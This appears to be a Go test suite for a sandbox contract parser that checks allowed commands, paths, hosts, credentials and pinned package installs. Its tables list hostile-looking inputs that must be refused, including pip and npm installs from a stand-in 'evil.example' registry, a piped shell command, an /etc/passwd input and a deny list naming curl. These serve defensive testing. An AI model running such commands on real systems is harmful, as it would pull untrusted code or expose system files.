package contract_test

import (
	"errors"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"postern/internal/contract"
	"postern/internal/policy"
)

// full has every field.
const full = `version: 1
name: monthly-report
description: Makes the report of a month.
template: base:v2
commands:
  allow:
    - run: python3 report.py *
      max: 2
      time: 5m
    - run: git log **
      ask: true
    - run: /work/out/tool
  deny: [curl, "git log --output*"]
files:
  read: [/data]
  write: [/work, /work/out]
  deny: [/data/secret]
  inputs:
    - path: /work/in/sales.csv
      size: 1MiB
      sha256: e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855
      required: true
  dir: /work/out
network:
  allow: [api.example.com, "*.example.org", 192.0.2.0/24]
packages:
  - manager: pypi
    pinned: true
credentials:
  - secret: api-key
    hosts: [api.example.com]
    header: X-Api-Key
    approval: first
mail:
  inbox: reports@example.com
  max: 2
limits:
  time: 20m
  memory: 512MiB
  cpus: 0.5
  disk: 100MiB
  output: 64KiB
  processes: 32
on_failure:
  exit: continue
  stderr: 1KiB
  output: true
artifacts:
  - path: /work/out/*.csv
    type: csv
    size: 1MiB
    required: true
    review: flagged
teardown:
  keep: 10m
`

func parse(t testing.TB, text string) *contract.Contract {
	t.Helper()
	c, err := contract.Parse([]byte(text))
	if err != nil {
		t.Fatal(err)
	}
	return c
}

// with returns the smallest contract with more text.
func with(t testing.TB, more string) *contract.Contract {
	t.Helper()
	return parse(t, "version: 1\nname: test\n"+more)
}

func TestParse(t *testing.T) {
	c := parse(t, full)
	again := parse(t, string(c.Canonical()))
	if d := cmp.Diff(c, again); d != "" {
		t.Errorf("the canonical form parses differently: %s", d)
	}
	if c.Digest() != again.Digest() || !strings.HasPrefix(c.Digest(), "sha256:") || len(c.Digest()) != 71 {
		t.Errorf("digests %s and %s", c.Digest(), again.Digest())
	}
	if err := c.Check(); err != nil {
		t.Error(err)
	}
	other := parse(t, strings.Replace(full, "time: 20m", "time: 1200s", 1))
	if other.Digest() != c.Digest() {
		t.Error("20m and 1200s have two digests")
	}
	if other := parse(t, strings.Replace(full, "time: 20m", "time: 21m", 1)); other.Digest() == c.Digest() {
		t.Error("20m and 21m have one digest")
	}
	if d := c.Wider(c); d != nil {
		t.Errorf("wider than itself: %v", d)
	}
	for _, w := range c.Warnings() {
		t.Log(w)
	}
	for _, s := range c.Explain() {
		t.Log(s)
	}
}

func TestParseRefuses(t *testing.T) {
	for _, test := range []struct{ name, from, to, want string }{
		{"unknown field", "name: monthly-report", "name: x\ntitle: y", "line 3: title: there is no such field; the fields are version, name"},
		{"unknown field below", "max: 2\n      time", "maximum: 2\n      time", "line 8: commands.allow[0].maximum: there is no such field; the fields are run, max, time, ask"},
		{"key twice", "name: monthly-report", "name: x\nname: y", "appears twice"},
		{"anchor", "read: [/data]", "read: &a [/data]", "anchors and aliases are not allowed"},
		{"tag", "cpus: 0.5", "cpus: !!float 0.5", "tags are not allowed"},
		{"merge", "mail:\n", "mail:\n  <<: {max: 1}\n", "no such field"},
		{"version", "version: 1", "version: 2", "line 1: version: is 2; write version: 1"},
		{"name", "monthly-report", "Monthly Report", "line 2: name:"},
		{"bidi", "Makes the", "\u202eMakes the", "line 3: has the character U+202E"},
		{"escaped bidi", "description: Makes the report of a month.", `description: "a\u202eb"`, "line 3: description: has the invisible character U+202E"},
		{"template digest", "base:v2", "base@sha256:12", "line 4: template:"},
		{"template any", "base:v2", `"*"`, "allowed in boundaries only"},
		{"pipe", "python3 report.py *", "python3 report.py | sh", "only a shell understands"},
		{"star program", "python3 report.py *", "py* report.py", "is not the name of a program"},
		{"double star", "python3 report.py *", "python3 ** x", "only as the last word"},
		{"relative program", "/work/out/tool", "./tool", "neither the name of a program nor an absolute path"},
		{"program below proc", "/work/out/tool", "/proc/self/exe", "line 12: commands.allow[2].run: is below /proc"},
		{"open quote", "python3 report.py *", `python3 'report.py`, "is not closed"},
		{"max", "max: 2\n      time", "max: -1\n      time", "line 8: commands.allow[0].max"},
		{"time without unit", "time: 5m", "time: 300", `"300": must be a time with its unit`},
		{"too long", "time: 20m", "time: 25h", "limits.time: is 25h; at most 24h"},
		{"negative time", "time: 20m", "time: -1m", "at least 1s"},
		{"deny all", "deny: [curl,", `deny: ["**",`, "denies every program"},
		{"relative path", "read: [/data]", "read: [data]", "line 15: files.read[0]: \"data\" is not absolute"},
		{"dots", "read: [/data]", "read: [/data/../etc]", "write /etc"},
		{"pattern of directories", "read: [/data]", `read: ["/data/*"]`, "patterns cannot be mounted"},
		{"root", "read: [/data]", `read: [/]`, "includes the guest's files"},
		{"proc", "read: [/data]", `read: [/proc/1]`, "belongs to the kernel or the guest"},
		{"the guest's starter", "read: [/data]", `read: [/.postern-start]`, "belongs to the kernel or the guest"},
		{"the guest's inputs", "read: [/data]", `read: [/.inputs/1]`, "belongs to the kernel or the guest"},
		{"write the system", "write: [/work, /work/out]", "write: [/work, /usr/lib/x, /work/out]", "files.write[1]: is in /usr, which is read-only"},
		{"write and deny", "deny: [/data/secret]", "deny: [/work/out]", "files.deny[0]: overlaps files.write[0]"},
		{"deny all that is read", "deny: [/data/secret]", "deny: [/data]", "hides all of files.read[0]"},
		{"dir", "dir: /work/out", "dir: /home/user", "files.dir: is not in files.read or files.write"},
		{"input in the system", "path: /work/in/sales.csv", "path: /etc/passwd", "cannot hold inputs"},
		{"input digest", "sha256: e3b0", "sha256: E3b0", "64 lower-case hexadecimal digits"},
		{"digest of a pattern", "path: /work/in/sales.csv", `path: /work/in/*`, "not a pattern"},
		{"host with scheme", "api.example.com, \"*", "https://api.example.com, \"*", "without scheme and path"},
		{"host with a malformed port", "api.example.com, \"*", "'api.example.com:99999', \"*", `network.allow[0]: "api.example.com:99999": the port "99999" must be a number from 1 to 65535`},
		{"any host", `"*.example.org"`, `"*"`, `write "0.0.0.0/0"`},
		{"deny without the Internet", "192.0.2.0/24]", "192.0.2.0/24]\n  deny: [192.0.2.1]", "has an effect only beside 0.0.0.0/0"},
		{"names beside the Internet", "192.0.2.0/24]", "0.0.0.0/0]", "has no effect beside 0.0.0.0/0"},
		{"manager", "manager: pypi", "manager: brew", "must be one of crates, debian, go, npm, pypi"},
		{"pinned apt", "manager: pypi", "manager: debian", "cannot be enforced for debian"},
		{"credential without network", "hosts: [api.example.com]", "hosts: [other.example.com]", "credentials[0].hosts[0]: other.example.com is not in network.allow"},
		{"credential wider than network", "hosts: [api.example.com]", "hosts: ['*.example.com']", "is not in network.allow"},
		{"header of the connection", "header: X-Api-Key", "header: Transfer-Encoding", "cannot carry a secret"},
		{"approval", "approval: first", "approval: once", "must be always, first or never"},
		{"mail without inbox", "inbox: reports@example.com\n", "", "has no effect without mail.inbox"},
		{"inbox", "reports@example.com", "Reports <reports@example.com>", "must be the ID or the address"},
		{"cpus", "cpus: 0.5", "cpus: .inf", "must be a number"},
		{"memory", "memory: 512MiB", "memory: 512MB", "must be a number of bytes"},
		{"little memory", "memory: 512MiB", "memory: 512", "64MiB to 1TiB are allowed"},
		{"exit", "exit: continue", "exit: maybe", "must be stop or continue"},
		{"artifact elsewhere", "path: /work/out/*.csv", `path: /home/*.csv`, "is not below files.write"},
		{"artifact by any directory", "path: /work/out/*.csv", `path: /*/out/a.csv`, "is not below files.write"},
		{"artifact type", "type: csv", "type: exe", "must be one of csv, json"},
		{"review", "review: flagged", "review: nobody", "must be person, flagged or policy"},
		{"keep", "keep: 10m", "keep: 48h", "at most 24h"},
		{"null", "keep: 10m", "keep: null", "must be a string"},
		{"list for text", "name: monthly-report", "name: [a]", "must be a string"},
		{"text for list", "read: [/data]", "read: /data", "must be a list"},
		{"boolean", "ask: true", `ask: "true"`, "must be true or false"},
	} {
		t.Run(test.name, func(t *testing.T) {
			text := strings.Replace(full, test.from, test.to, 1)
			if text == full {
				t.Fatal("nothing is replaced")
			}
			_, err := contract.Parse([]byte(text))
			if err == nil || !strings.Contains(err.Error(), test.want) || !errors.Is(err, contract.ErrInvalid) || len(contract.Problems(err)) == 0 {
				t.Errorf("got %v, want %q", err, test.want)
			}
		})
	}
	for _, text := range []string{"", "a: *b", strings.Repeat("- ", 30000), strings.Repeat("[", 30000), "version: 1\nname: a\n---\nname: b", strings.Repeat("x", contract.MaxSize+1), "\xff"} {
		if _, err := contract.Parse([]byte(text)); !errors.Is(err, contract.ErrInvalid) {
			t.Errorf("%.20q: %v", text, err)
		}
	}
}

func TestStart(t *testing.T) {
	c := with(t, `
commands:
  allow:
    - run: python3 report.py *
      ask: true
    - run: ls **
    - run: echo 'a b' "c*d" x\*
    - run: /work/tool **
    - run: /opt/tools/*/bin/lint --fast
    - run: git **
    - run: pip **
  deny: [curl, "git push", /work/bad]
files: {write: [/work]}
packages:
  - manager: npm
`)
	fixed := func(p string, args ...string) contract.Started {
		return contract.Started{Path: p, Name: p, Dir: "/work", Args: args, Fixed: true}
	}
	called := func(s contract.Started, name string) contract.Started { s.Name = name; return s }
	written := func(s contract.Started) contract.Started { s.Fixed = false; return s }
	cut := func(s contract.Started) contract.Started { s.Cut = true; return s }
	for _, test := range []struct {
		name string
		s    contract.Started
		want int
	}{
		{"plain", fixed("/usr/bin/ls", "ls", "-l"), 1},
		{"no arguments", fixed("/usr/bin/ls", "ls"), 1},
		{"full argv[0]", fixed("/usr/bin/ls", "/bin/ls"), 1},
		{"login name", fixed("/usr/bin/ls", "-ls"), 1},
		{"the template's symbolic link", called(fixed("/usr/bin/python3.11", "python3", "report.py", "x"), "/usr/bin/python3"), 0},
		{"the link by another path", called(fixed("/usr/bin/python3.11", "python3", "report.py", "x"), "/work/../usr/bin/python3"), -1},
		{"a link of the run", called(fixed("/usr/bin/python3.11", "python3", "report.py", "x"), "/work/python3"), -1},
		{"a relative link", called(fixed("/usr/bin/python3.11", "python3", "report.py", "x"), "python3"), -1},
		{"too few arguments", called(fixed("/usr/bin/python3.11", "python3", "report.py"), "/usr/bin/python3"), -1},
		{"too many arguments", called(fixed("/usr/bin/python3.11", "python3", "report.py", "x", "y"), "/usr/bin/python3"), -1},
		{"an argument with spaces is one", called(fixed("/usr/bin/python3.11", "python3", "report.py", "x y\n"), "/usr/bin/python3"), 0},
		{"another script", called(fixed("/usr/bin/python3.11", "python3", "evil.py", "x"), "/usr/bin/python3"), -1},
		{"renamed", fixed("/work/ls", "ls"), -1},
		{"written over", written(fixed("/usr/bin/ls", "ls")), -1},
		{"another program by the name", fixed("/usr/bin/python3.11", "ls"), -1},
		{"the program by another name", fixed("/usr/bin/ls", "sh"), -1},
		{"many programs in one, right name", called(fixed("/usr/bin/busybox", "ls"), "/bin/ls"), 1},
		{"many programs in one, wrong name", called(fixed("/usr/bin/busybox", "sh"), "/bin/ls"), -1},
		{"no argv", fixed("/usr/bin/ls"), -1},
		{"empty argv[0]", fixed("/usr/bin/ls", ""), -1},
		{"no path", called(fixed("", "ls"), "/bin/ls"), 1},
		{"memfd", contract.Started{Path: "/memfd:x", Name: "/proc/self/fd/3", Dir: "/", Args: []string{"ls"}}, -1},
		{"deeper", fixed("/usr/bin/x/ls", "ls"), -1},
		{"cut with any arguments", cut(fixed("/usr/bin/ls", "ls", "x")), 1},
		{"cut with a pattern", cut(called(fixed("/usr/bin/python3.11", "python3", "report.py", "x"), "/usr/bin/python3")), -1},
		{"quoted", fixed("/bin/echo", "echo", "a b", "c*d", "x*"), 2},
		{"a quoted star is one", fixed("/bin/echo", "echo", "a b", "cxd", "x*"), -1},
		{"an unquoted word of two", fixed("/bin/echo", "echo", "a", "b", "c*d", "x*"), -1},
		{"absolute", written(fixed("/work/tool", "./tool", "x")), 3},
		{"absolute by another name", written(fixed("/work/tool", "sh", "x")), -1},
		{"absolute elsewhere", written(fixed("/work/sub/tool", "tool", "x")), -1},
		{"absolute pattern", fixed("/opt/tools/v1/bin/lint", "lint", "--fast"), 4},
		{"absolute pattern of two names", fixed("/opt/tools/v1/x/bin/lint", "lint", "--fast"), -1},
		{"allowed subcommand", fixed("/usr/bin/git", "git", "log"), 5},
		{"denied subcommand", fixed("/usr/bin/git", "git", "push", "origin"), -1},
		{"denied, cut", cut(fixed("/usr/bin/git", "git", "log")), -1},
		{"denied by a link", called(fixed("/usr/bin/ls", "ls"), "/work/curl"), -1},
		{"denied by argv[0]", fixed("/work/tool", "curl"), -1},
		{"denied path", called(written(fixed("/work/tool", "tool")), "bad"), -1},
		{"pip without its clause", fixed("/usr/bin/pip", "pip", "install", "requests==2.0.0"), -1},
		{"pip that installs nothing", fixed("/usr/bin/pip", "pip", "list"), 6},
		{"pip of a file that is here", fixed("/usr/bin/pip", "pip", "install", "--no-deps", "./x.whl"), 6},
	} {
		t.Run(test.name, func(t *testing.T) {
			if test.name == "no path" {
				test.want = -1
			}
			m := c.Start(test.s)
			if m.Index != test.want || m.Allowed != (test.want >= 0) || m.Why == "" || m.Ask != (test.want == 0) {
				t.Errorf("got %+v, want %d", m, test.want)
			}
		})
	}
	if m := with(t, "").Start(fixed("/usr/bin/true", "true")); m.Allowed || !strings.Contains(m.Why, "commands.allow is empty") {
		t.Errorf("nothing allows: %+v", m)
	}
	if m := with(t, "commands: {allow: [{run: '**'}]}").Start(contract.Started{Path: "/memfd:x"}); !m.Allowed {
		t.Errorf("anything: %+v", m)
	}
}

func TestPinnedPackages(t *testing.T) {
	c := with(t, `
commands: {allow: [{run: "**"}]}
packages: [{manager: pypi, pinned: true}, {manager: npm, pinned: true}, {manager: go, pinned: true}, {manager: crates}]
`)
	for line, want := range map[string]bool{
		"pip install requests==2.31.0":                       true,
		"pip3 install -q requests==2.31.0 a[b]==1.0":         true,
		"python3 -m pip install requests==2.31.0":            true,
		"python3.11 -mpip install requests":                  false,
		"pip install requests":                               false,
		"pip install requests==2.*":                          false,
		"pip install requests>=2":                            false,
		"pip install -r requirements.txt":                    false,
		"pip install --index-url=http://evil/ requests==1.0": false,
		"pip install requests@http://evil.example/x==1.0":    false,
		"pip --proxy install install requests":               false,
		"pip install":                                        false,
		"pip list":                                           true,
		"npm install left-pad@1.3.0":                         true,
		"npm install left-pad@1.x":                           false,
		"npm install left-pad@latest":                        false,
		"npm install":                                        false,
		"npm ci":                                             true,
		"npm ci x":                                           false,
		"npx cowsay":                                         false,
		"npm run build":                                      true,
		"go install example.com/x@v1.2.3":                    true,
		"go install example.com/x@latest":                    false,
		"go build ./...":                                     true,
		"cargo install ripgrep":                              true,
		"apt-get install curl":                               false,
		"echo install curl":                                  true,
		"uvx ruff":                                           false,
		"bash -c true":                                       true,

		// Options that name a place, a platform or a way of printing, of pip …
		"pip install --target /work/lib x==1.2.0":                                 true,
		"pip install --target=/work/lib x==1.2.0":                                 true,
		"pip install -t /work/lib --no-cache-dir -q x==1.2.0":                     true,
		"pip install --prefix /work --root /work --user --no-deps x==1.2.0":       true,
		"pip -v --no-input install --only-binary :all: --progress-bar off x==1.0": true,
		"pip download -d /work --platform any --python-version 3.11 x==1.0 y==2":  true,
		"pip wheel -w /work --no-build-isolation x==1.0":                          true,
		"python3 -m pip install --target /work x==1.0":                            true,
		"pip install --cache-dir /work/cache --upgrade --pre x==1.0":              true,
		"pip install --target x==1.0":                                             false,
		"pip install --target --index-url http://evil.example/ x==1.0":            false,
		"pip --index-url http://evil.example/ install x==1.0":                     false,
		"pip --proxy http://evil.example/ install x==1.0":                         false,
		"pip install --extra-index-url http://evil.example/ x==1.0":               false,
		"pip install -i http://evil.example/ x==1.0":                              false,
		"pip install -ihttp://evil.example/ x==1.0":                               false,
		"pip install -f http://evil.example/ x==1.0":                              false,
		"pip install --find-links=http://evil.example/ x==1.0":                    false,
		"pip install --trusted-host evil.example x==1.0":                          false,
		"pip install -c constraints.txt x==1.0":                                   false,
		"pip install -e git+https://evil.example/x#egg=x x==1.0":                  false,
		"pip install --index http://evil.example/ x==1.0":                         false,
		"pip install --user=1 x==1.0":                                             false,
		"pip install --new-option x==1.0":                                         false,
		"pip install --config-settings=--global-option=x x==1.0":                  false,
		"python3 -m pip --index-url http://evil.example/ install x==1.0":          false,
		// … of npm …
		"npm install --no-save left-pad@1.3.0":                         true,
		"npm install --prefix /work left-pad@1.3.0":                    true,
		"npm --prefix=/work install -g left-pad@1.3.0":                 true,
		"npm ci --omit=dev --ignore-scripts --no-audit --no-fund":      true,
		"npm i -D -E --loglevel error --cache /work/c left-pad@1.3.0":  true,
		"npm install --no-save left-pad@1":                             false,
		"npm install --registry http://evil.example/ left-pad@1.3.0":   false,
		"npm --registry=http://evil.example/ install left-pad@1.3.0":   false,
		"npm install --@x:registry=http://evil.example/ @x/y@1.3.0":    false,
		"npm ci --userconfig /work/npmrc":                              false,
		"npm install --prefix --registry http://evil.example/ x@1.3.0": false,
		"npm install --no-save git+https://evil.example/x.git#v1.3.0":  false,
		// … and of go and cargo.
		"go install -v -trimpath example.com/x@v1.2.3":       true,
		"go install -modfile /work/x.mod example.com/x@v1.2": false,
		"go install -toolexec /work/x example.com/x@v1.2.3":  false,
		"cargo install --git https://evil.example/x":         true, // crates is not pinned
	} {
		args := strings.Fields(line)
		m := c.Start(contract.Started{Path: "/usr/bin/" + args[0], Name: "/usr/bin/" + args[0], Args: args, Fixed: true})
		if m.Allowed != want {
			t.Errorf("%s: %+v, want %t", line, m, want)
		}
	}
}

func TestMatchFiles(t *testing.T) {
	c := with(t, `
files:
  write: [/work]
  inputs: [{path: /work/in/a.csv, size: 1KiB}, {path: /work/in/*}, {path: /work/tree/**}]
artifacts:
  - {path: /work/*.csv, type: csv}
  - {path: /work/out/*/page-*.html, type: html}
`)
	for p, want := range map[string]string{
		"/work/a.csv": "/work/*.csv", "/work/.csv": "/work/*.csv", "/work/x/a.csv": "", "/work/a.csv/": "", "/work/../work/a.csv": "", "work/a.csv": "", "/work/a.csv\x00": "", "/work/\n.csv": "/work/*.csv",
		"/work/out/x/page-1.html": "/work/out/*/page-*.html", "/work/out/page-1.html": "", "/work/out/x/y/page-1.html": "",
	} {
		if a, ok := c.MatchArtifact(p); a.Path != want || ok != (want != "") {
			t.Errorf("artifact %q: %q, want %q", p, a.Path, want)
		}
	}
	for p, want := range map[string]string{
		"/work/in/a.csv": "/work/in/a.csv", "/work/in/b": "/work/in/*", "/work/in/b/c": "", "/work/in": "", "/work/tree": "", "/work/tree/a": "/work/tree/**", "/work/tree/a/b/c": "/work/tree/**", "/work/tree/../x": "", "": "", "/": "",
	} {
		if in, ok := c.MatchInput(p); in.Path != want || ok != (want != "") {
			t.Errorf("input %q: %q, want %q", p, in.Path, want)
		}
	}
}

func TestEgress(t *testing.T) {
	e := parse(t, full).Egress()
	want := policy.Egress{
		AllowOut: []string{"api.example.com", "*.example.org", "192.0.2.0/24"}, Packages: []string{"pypi"},
		Rules: map[string][]policy.Rule{"api.example.com": {{Headers: map[string]string{"X-Api-Key": "${e2b.secrets.api-key}"}}}},
	}
	if d := cmp.Diff(want, e); d != "" {
		t.Error(d)
	}
	e = with(t, `
network: {allow: ["0.0.0.0/0"], deny: [192.0.2.0/24]}
credentials:
  - {secret: a, hosts: ["*.example.com"]}
  - {secret: b, hosts: [api.example.com], header: x-b}
`).Egress()
	want = policy.Egress{Internet: true, DenyOut: []string{"192.0.2.0/24"}, Rules: map[string][]policy.Rule{
		"*.example.com":   {{Headers: map[string]string{"Authorization": "Bearer ${e2b.secrets.a}"}}},
		"api.example.com": {{Headers: map[string]string{"Authorization": "Bearer ${e2b.secrets.a}", "X-B": "${e2b.secrets.b}"}}},
	}}
	if d := cmp.Diff(want, e); d != "" {
		t.Error(d)
	}
	if d := cmp.Diff(policy.Egress{}, with(t, "").Egress()); d != "" {
		t.Error(d)
	}
}

func TestClauses(t *testing.T) {
	var ids []string
	for _, c := range new(contract.Contract).Clauses() {
		ids = append(ids, c.ID)
		if c.Text == "" || !strings.HasSuffix(c.Text, ".") {
			t.Errorf("%s: %q", c.ID, c.Text)
		}
	}
	want := []string{"commands", "files", "inputs", "network", "packages", "credentials", "mail", "limits", "on_failure", "artifacts", "teardown"}
	if !slices.Equal(ids, want) {
		t.Errorf("clauses %v", ids)
	}
}

func TestParseBoundary(t *testing.T) {
	const text = `
version: 1
name: everything
template: "*"
commands: {allow: [{run: "**"}]}
files:
  read: [/]
  write: [/]
  inputs: [{path: "/**", size: 256MiB}]
network: {allow: ["0.0.0.0/0"]}
packages: [{manager: pypi}, {manager: npm}, {manager: go}, {manager: crates}, {manager: debian}]
credentials:
  - {secret: "*", hosts: ["*.example.com"], header: X-Api-Key, approval: never}
mail: {inbox: "*", max: 100}
limits: {time: 24h, memory: 1TiB, cpus: 256, disk: 1TiB, output: 256MiB, processes: 32768}
on_failure: {exit: continue, stderr: 64KiB, output: true}
artifacts: [{path: "/**", type: any, size: 256MiB, review: policy}]
teardown: {keep: 24h}
`
	b, err := contract.ParseBoundary([]byte(text))
	if err != nil {
		t.Fatal(err)
	}
	if _, err := contract.Parse([]byte(text)); err == nil || len(contract.Problems(err)) < 4 {
		t.Errorf("a run could have it: %v", err)
	}
	if d := parse(t, full).Wider(b); d != nil {
		t.Errorf("wider than everything: %v", d)
	}
	if d := b.Wider(b); d != nil {
		t.Errorf("wider than itself: %v", d)
	}
	if d := b.Wider(new(contract.Contract)); len(d) < 15 {
		t.Errorf("wider than nothing: %v", d)
	}
}

// TestRefusedOptionsAreNamed: whoever reads the refusal learns which argument it is about.
func TestRefusedOptionsAreNamed(t *testing.T) {
	c := with(t, "commands: {allow: [{run: \"**\"}]}\npackages: [{manager: pypi, pinned: true}, {manager: npm, pinned: true}, {manager: crates, pinned: true}]\n")
	for line, want := range map[string]string{
		"pip install --index-url=http://evil/ x==1.0": "the option --index-url ",
		"pip install x==1.0 -r more.txt":              "the option -r ",
		"pip install --target --pre x==1.0":           "the option --target needs a value",
		"pip install --no-deps=no x==1.0":             "the option --no-deps takes no value",
		"pip install requests":                        "requests names no exact version",
		"npm install --registry http://evil/ x@1.0.0": "the option --registry ",
		"npm ci --userconfig x":                       "the option --userconfig ",
		"npm install x@latest":                        "x@latest names no exact version",
		"cargo install --git http://evil/x":           "the option --git ",
		"pip install":                                 "it names no package with its exact version",
	} {
		args := strings.Fields(line)
		m := c.Start(contract.Started{Path: "/usr/bin/" + args[0], Name: "/usr/bin/" + args[0], Args: args, Fixed: true})
		if m.Allowed || !strings.Contains(m.Why, want) {
			t.Errorf("%s: %t, %q, want %q", line, m.Allowed, m.Why, want)
		}
	}
}

// TestPatternsThatCanNeverRunAreErrors: such a contract would be approved, and its run
// violated at once.
func TestPatternsThatCanNeverRunAreErrors(t *testing.T) {
	const pinned = "\npackages: [{manager: pypi, pinned: true}, {manager: npm, pinned: true}, {manager: go, pinned: true}]\n"
	for _, tt := range []struct{ allow, more, want string }{
		{"pip install --index-url * *==*", pinned, "the option --index-url"},
		{"pip install -r requirements.txt", pinned, "the option -r"},
		{"pip --proxy * install **", pinned, "the option --proxy"},
		{"python3 -m pip install --extra-index-url=* *", pinned, "the option --extra-index-url"},
		{"npm install --registry * **", pinned, "the option --registry"},
		{"npm install left-pad@latest", pinned, "left-pad@latest names no exact version"},
		{"pip install requests", pinned, "requests names no exact version"},
		{"pip install requests==1.0", "", "packages does not name pypi"},
		{"npm install left-pad@*", "", "packages does not name npm"},
		{"/home/user/tool **", "", "the run does not see /home/user/tool"},
		{"/opt/tool", "\nfiles: {deny: [/opt]}", "the run does not see /opt/tool"},

		{"pip install --target /work *==*", pinned, ""},
		{"pip install **", pinned, ""},
		{"pip **", "", ""},
		{"pip * * requests==*", pinned, ""},
		{"pip install requests*", pinned, ""},
		{"pip install --t* **", pinned, ""},
		{"pip download --no-deps *==*", pinned, ""},
		{"python3 -m pip install **", pinned, ""},
		{"npm ci", pinned, ""},
		{"npm * left-pad@*", pinned, ""},
		{"npm install --prefix=* *@*.*.*", pinned, ""},
		{"go install *@*", pinned, ""},
		{"pip install ./x.whl", "", ""},
		{"pip install requests", "\npackages: [{manager: pypi}]", ""},
		{"/opt/tool/*", "", ""},
		{"/work/in/tool", "\nfiles: {inputs: [{path: /work/in/tool}]}", ""},
	} {
		_, err := contract.Parse([]byte("version: 1\nname: x\ncommands: {allow: [{run: '" + tt.allow + "'}]}" + tt.more))
		switch {
		case tt.want == "" && err != nil:
			t.Errorf("%s: %v", tt.allow, err)
		case tt.want != "" && (err == nil || !strings.Contains(err.Error(), "can never run") || !strings.Contains(err.Error(), tt.want)):
			t.Errorf("%s: %v, want %q", tt.allow, err, tt.want)
		}
	}
}

// TestWarningsAreAboutWhatReadersMiss: an interpreter with its script is what it seems to
// be. A contract of which nothing is unexpected has no warning.
func TestWarningsAreAboutWhatReadersMiss(t *testing.T) {
	const files = "\nfiles: {write: [/work], inputs: [{path: /work/in/*}, {path: /work/report.py}]}"
	for run, want := range map[string]string{
		"python3 report.py":          "",
		"python3 report.py **":       "",
		"python3 -I /work/in/job.py": "",
		"bash /opt/run.sh *":         "",
		"node --version":             "",
		"ls **":                      "",
		"git status":                 "",
		"python3 **":                 "any code, also code on the command line",
		"python3 * x":                "any code, also code on the command line",
		"bash **":                    "any code, also code on the command line",
		"python3 made.py":            "the run can write /work/made.py",
		"python3 -I /work/x/y.py *":  "the run can write /work/x/y.py",
		"git **":                     "runs other code or programs",
		"awk *":                      "runs other code or programs",
		"find . **":                  "runs other code or programs",
		"**":                         "allows any program",
	} {
		c := parse(t, "version: 1\nname: x\ncommands: {allow: [{run: '"+run+"'}]}"+files)
		got := strings.Join(c.Warnings(), "\n")
		if want == "" && got != "" || !strings.Contains(got, want) {
			t.Errorf("%s: %q, want %q", run, got, want)
		}
	}
}
